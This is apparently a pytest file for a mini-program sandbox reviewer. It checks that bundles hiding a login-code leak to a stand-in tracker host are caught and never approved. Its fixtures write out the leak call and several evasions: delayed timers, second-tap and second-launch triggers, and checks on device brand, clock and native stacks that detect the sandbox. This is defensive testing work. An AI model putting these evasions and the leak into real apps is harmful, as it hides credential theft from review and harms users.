"""Bundles that hide a leak from the review: behind time, a second tap, a second launch, or a check that tells the
sandbox from a device. Each is reviewed as a directory bundle on both engines and must not be approved."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mpsandbox.bundle import load_bundle
from mpsandbox.review import ReviewOptions, review
from mpsandbox.review.gather import gather
from mpsandbox.review.policy import builtin_policy
from mpsandbox.runtime.environment import walk_seed

LEAK = "tt.login({ success: (r) => tt.request({ url: 'https://t.tracker-example.net/c', data: { code: r.code } }) })"


def _bundle(root: Path, page_js: str, *, app_js: str = "App({})", ttml: str = "<view>shop</view>") -> Path:
    files = {
        "app.json": json.dumps({"pages": ["pages/a/a"]}),
        "app.js": app_js,
        "pages/a/a.js": page_js,
        "pages/a/a.ttml": ttml,
    }
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")
    return root


def _leaks(root: Path, engine: str) -> set[str]:
    report = review(root, ReviewOptions(engine=engine, allow_domains=["api.example.com"]))
    rules = {f.rule for f in report.findings}
    assert report.verdict.value != "approve", rules
    return rules


EVASIONS = {
    # a page that stays open a minute; the timer is cleared when the page goes
    "60-second timer": dict(page_js=f"Page({{ onLoad() {{ this.t = setTimeout(() => {{ {LEAK} }}, 60000) }},"
                                    " onUnload() { clearTimeout(this.t) } })"),
    "second tap": dict(page_js=f"Page({{ n: 0, buy() {{ this.n += 1; if (this.n === 2) {{ {LEAK} }} }} }})",
                       ttml='<view bindtap="buy">buy</view>'),
    "second launch": dict(page_js="Page({})",
                          app_js=f"App({{ onLaunch() {{ if (tt.getStorageSync('seen')) {{ {LEAK} }}"
                                 " else tt.setStorageSync('seen', 1) } })"),
    "brand is not the sandbox's": dict(page_js=(
        "Page({ onLoad() { const s = tt.getSystemInfoSync(); "
        "const device = s.brand !== 'mpsandbox' && !/sandbox/i.test(s.model + s.system + s.appName); "
        f"if (device) {{ {LEAK} }} }} }})")),
    "clock looks real": dict(page_js=(
        "Page({ onLoad() { const a = performance.now(); let spin = 0; while (performance.now() === a) spin++; "
        "const round = Date.now() % 1000 === 0 || a === 0 || new Date().getFullYear() < 2026; "
        f"if (!round) {{ {LEAK} }} }} }})")),
    "stacks and sources look native": dict(page_js=(
        "Page({ onLoad() { const text = new Error('x').stack + String(tt.request) + String(setTimeout) + "
        "String(Page) + String(require) + String(console.log) + String(Date) + String(Function.prototype.toString); "
        "const native = String(tt.request).includes('[native code]') && !('fileName' in tt.request) "
        "&& Object.getPrototypeOf(Date) === Function.prototype; "
        f"if (native && !/mpsandbox|sandbox|framework\\.js|dispatchCall/.test(text)) {{ {LEAK} }} }} }})")),
}


@pytest.mark.parametrize("name", list(EVASIONS))
def test_hidden_leak_is_reached(tmp_path, engine_name, name):
    rules = _leaks(_bundle(tmp_path / "b", **EVASIONS[name]), engine_name)
    assert "data-to-network" in rules


def test_the_walks_of_one_review_see_different_devices_and_clocks(tmp_path, engine_name):
    page = ("Page({ onLoad() { const s = tt.getSystemInfoSync(); tt.request({ url: 'https://api.example.com/m?m=' "
            "+ encodeURIComponent(s.model) + '&t=' + Date.now() }) } })")
    bundle = load_bundle(_bundle(tmp_path / "b", page))
    art = gather(bundle, builtin_policy("douyin"), engine=engine_name, seed=3, deny=True)
    allow, deny = (run.trace for run in art.runs)
    assert allow.environment["seed"] == 3 and deny.environment["seed"] == walk_seed(3, "deny") != 3
    assert allow.environment["epoch_ms"] != deny.environment["epoch_ms"]
    first = [e.args[0]["url"] for e in allow.api_calls("request")][0]
    assert first != [e.args[0]["url"] for e in deny.api_calls("request")][0]
    # the same review seed repeats both walks
    again = gather(bundle, builtin_policy("douyin"), engine=engine_name, seed=3, deny=True)
    assert [r.trace.model_dump_json() for r in again.runs] == [allow.model_dump_json(), deny.model_dump_json()]
